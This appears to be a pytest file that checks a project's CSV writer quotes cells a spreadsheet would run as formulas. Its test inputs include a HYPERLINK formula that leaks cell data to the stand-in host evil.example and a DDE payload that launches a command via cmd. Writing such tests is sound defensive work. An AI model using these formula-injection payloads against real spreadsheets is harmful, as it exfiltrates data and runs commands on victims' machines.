"""CSV cells that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from socialseed.spreadsheets import csv_rows

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_text_that_starts_like_a_formula_is_quoted_as_text(text: str) -> None:
    [row] = list(csv.reader(io.StringIO(csv_rows([["x", text, 1]]))))
    assert row == ["x", "'" + text, "1"]


def test_other_text_and_numbers_are_written_as_they_are() -> None:
    written = csv_rows([["alice", "a=b", "2026-12-02T10:00:00+00:00", -3, -0.5, 7, None]])
    [row] = list(csv.reader(io.StringIO(written)))
    # Numbers we produce stay numbers, a negative one too: a spreadsheet sums them.
    assert row == ["alice", "a=b", "2026-12-02T10:00:00+00:00", "-3", "-0.5", "7", ""]
